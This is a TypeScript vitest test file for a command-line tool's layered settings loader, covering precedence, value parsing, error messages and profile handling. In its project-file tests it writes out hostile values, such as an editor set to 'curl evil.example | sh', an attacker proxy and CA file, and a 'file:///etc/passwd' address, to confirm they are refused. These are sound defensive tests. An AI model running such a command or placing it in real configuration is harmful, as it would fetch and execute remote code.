// Layers of settings, tried with real files in a folder of their own.

import { chownSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { AIMError } from '../../src/errors.ts';
import { definitions, settingKeys } from '../../src/settings/definitions.ts';
import { loadSettings } from '../../src/settings/load-settings.ts';
import type { SettingKey } from '../../src/settings/settings.ts';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'aim-settings-'));
  mkdirSync(join(root, 'config/aim'), { recursive: true });
  mkdirSync(join(root, 'project/deep'), { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

type World = {
  flags?: Partial<Record<SettingKey, unknown>>;
  env?: Record<string, string>;
  user?: object | string;
  project?: object | string;
};

function load({ flags, env, user, project }: World) {
  const write = (path: string, content: object | string) =>
    writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  if (user !== undefined) write(join(root, 'config/aim/config.json'), user);
  if (project !== undefined) write(join(root, 'project/.aim.json'), project);
  return loadSettings({
    flags,
    env: { HOME: join(root, 'home'), XDG_CONFIG_HOME: join(root, 'config'), ...env },
    cwd: join(root, 'project/deep'),
  });
}

const refusal = (world: World): AIMError => {
  try {
    load(world);
  } catch (error) {
    if (error instanceof AIMError) return error;
    throw error;
  }
  throw new Error('nothing was refused');
};

describe('which layer counts', () => {
  const all: World = {
    flags: { server: 'https://flag.example' },
    env: { AIM_SERVER: 'https://environment.example' },
    project: { server: 'https://project.example' },
    user: { server: 'https://user.example', profiles: { work: { server: 'https://work.example' } } },
  };
  test.each<[title: string, world: World, server: string | null, layer: string]>([
    ['an option before everything', all, 'https://flag.example', 'flag'],
    ['a variable before the files', { ...all, flags: {} }, 'https://environment.example', 'environment'],
    ['the project before the profile', { ...all, flags: {}, env: {} }, 'https://project.example', 'project'],
    [
      'the profile before what stands beside it',
      { user: { ...(all.user as object), profile: 'work' } },
      'https://work.example',
      'profile',
    ],
    ['what stands beside the profiles', { user: all.user as object }, 'https://user.example', 'profile'],
    ['the default where nobody says anything', {}, null, 'default'],
    ['no variable that is empty', { env: { AIM_SERVER: '' } }, null, 'default'],
  ])('%s', (_, world, server, layer) => {
    const settings = load(world);
    expect(settings.get('server')).toBe(server);
    expect(settings.explain('server').layer).toBe(layer);
  });

  test('explains what the others said', () => {
    expect(
      load(all)
        .explain('server')
        .others.map(({ layer, value }) => [layer, value]),
    ).toEqual([
      ['environment', 'https://environment.example'],
      ['project', 'https://project.example'],
      ['profile', 'https://user.example'],
      ['default', null],
    ]);
  });
});

describe('values', () => {
  test.each<[title: string, world: World, key: SettingKey, value: unknown]>([
    ['an address loses its slash', { env: { AIM_SERVER: 'https://aim.example/' } }, 'server', 'https://aim.example'],
    ['a time may have a unit', { flags: { timeoutSeconds: '2m' } }, 'timeoutSeconds', 120],
    ['a switch may be a word', { env: { AIM_READ_ONLY: 'yes' } }, 'readOnly', true],
    [
      'AIM_EDITOR comes before VISUAL and EDITOR',
      { env: { EDITOR: 'ed', VISUAL: 'vi', AIM_EDITOR: 'nano' } },
      'editor',
      'nano',
    ],
    ['NO_COLOR with any text turns colour off', { env: { NO_COLOR: '1' } }, 'color', 'never'],
    ['an empty NO_COLOR says nothing', { env: { NO_COLOR: '' } }, 'color', 'auto'],
    ['FORCE_COLOR=0 turns it off', { env: { FORCE_COLOR: '0' } }, 'color', 'never'],
    ['CLICOLOR_FORCE turns it on', { env: { CLICOLOR_FORCE: '1' } }, 'color', 'always'],
    ['a file with a byte order mark is read', { user: '\uFEFF{"fps": 12}' }, 'fps', 12],
    ['an empty file says nothing', { user: '' }, 'fps', 0],
    ['a file with the line ends of Windows is read', { user: '{\r\n  "fps": 12\r\n}\r\n' }, 'fps', 12],
  ])('%s', (_, world, key, value) => {
    expect(load(world).get(key)).toBe(value);
  });

  test.each<[title: string, world: World, words: RegExp]>([
    ['a number that is none', { env: { AIM_RETRIES: 'many' } }, /AIM_RETRIES sets retries to "many"/],
    ['a word that is not in the list', { user: { theme: 'pink' } }, /config\.json sets theme to "pink"/],
    ['an address with a password in it', { flags: { server: 'https://a:b@c.example' } }, /--server/],
    ['an address that is no web address', { flags: { server: 'file:///etc/passwd' } }, /http or https/],
    [
      'a profile that does not exist, and names the nearest',
      { user: { profiles: { staging: {} } }, flags: { profile: 'stagign' } },
      /Did you mean staging/,
    ],
    ['a file that is not JSON', { user: '{"fps": }' }, /config\.json is not valid JSON/],
    ['a file that holds a list', { project: '[]' }, /\.aim\.json is not valid JSON/],
    ['a file of a later version', { user: { schemaVersion: 99 } }, /later version/],
    ['a file whose version is no number', { user: { schemaVersion: '99' } }, /schemaVersion is no number/],
    ['a file with comments', { user: '{ // mine\n}' }, /config\.json is not valid JSON/],
    ['profiles that are a list', { user: { profiles: [] } }, /profiles are no object/],
    ['a profile that is a word', { user: { profiles: { work: 'https://work.example' } } }, /"work" is no object/],
    ['a profile named as what every object has', { flags: { profile: 'constructor' } }, /no profile "constructor"/],
  ])('refuses %s', (_, world, words) => {
    const error = refusal(world);
    expect(error.message).toMatch(words);
    expect(error.exitCode).toBe(2);
    expect(error.next).toBeTruthy();
  });
});

describe('a project file', () => {
  test.each<[title: string, project: object, key: SettingKey]>([
    ['a program to run', { editor: 'curl evil.example | sh' }, 'editor'],
    ['a pager to run', { pager: 'sh -c evil' }, 'pager'],
    ['where the sign-in is kept', { store: 'file' }, 'store'],
    ['a certificate to trust', { caFile: 'evil.pem' }, 'caFile'],
    ['a proxy', { proxy: 'http://evil.example' }, 'proxy'],
  ])('cannot choose %s, and that is said', (_, project, key) => {
    const settings = load({ project });
    expect(settings.explain(key).layer).toBe('default');
    expect(settings.warnings?.join()).toContain(key);
  });

  test('may ask for care, and not take it away', () => {
    expect(load({ project: { readOnly: true } }).get('readOnly')).toBe(true);
    const settings = load({ project: { readOnly: false }, user: { readOnly: true } });
    expect(settings.get('readOnly')).toBe(true);
  });
});

test.runIf(process.getuid?.() === 0)('a project file that another user put above is left alone, and that is said', () => {
  load({ project: { server: 'https://elsewhere.example' } });
  chownSync(join(root, 'project/.aim.json'), 12_345, 12_345);
  const settings = load({});
  expect([settings.get('server'), settings.warnings]).toEqual([null, [expect.stringContaining('belongs to another user')]]);
});

describe('every variable that the help names for a setting is read', () => {
  const given: Partial<Record<SettingKey, [text: string, value: unknown]>> = {
    server: ['https://aim.example', 'https://aim.example'],
    proxy: ['http://proxy.example', 'http://proxy.example'],
    profile: ['default', 'default'],
    timeoutSeconds: ['7s', 7],
    retries: ['7', 7],
    fps: ['7', 7],
    ...Object.fromEntries(['ascii', 'mouse', 'readOnly', 'hints', 'updateNotice'].map((key) => [key, ['on', true]])),
    ...Object.fromEntries(
      settingKeys.flatMap((key) => {
        const definition = definitions[key];
        return definition.kind === 'word' ? [[key, [definition.words[1], definition.words[1]]]] : [];
      }),
    ),
  };
  const variables = settingKeys.flatMap((key) => definitions[key].env.map((name) => [name, key] as const));
  test.each(variables)('%s sets %s', (name, key) => {
    const [text, value] = given[key] ?? ['some text', 'some text'];
    const { layer, source, ...explained } = load({ env: { [name]: text } }).explain(key);
    expect([layer, source, explained.value]).toEqual(['environment', name, value]);
  });
});

describe('each source of each setting is explained', () => {
  test.each(settingKeys.filter((key) => definitions[key].kind !== 'texts'))('%s', (key) => {
    const { default: value } = definitions[key];
    const text = String(value ?? (['server', 'proxy'].includes(key) ? 'https://aim.example' : 'default'));
    const [variable = ''] = definitions[key].env;
    const all = load({ flags: { [key]: text }, env: { [variable]: text }, user: { [key]: value ?? text } });
    const { layer, others } = all.explain(key);
    expect([layer, ...others.map((other) => other.layer)]).toEqual(['flag', 'environment', 'profile', 'default']);
  });
});

test('an unknown key is named with the nearest known one', () => {
  expect(load({ user: { theem: 'dark' } }).warnings).toEqual([expect.stringContaining('"theem"; did you mean theme?')]);
});
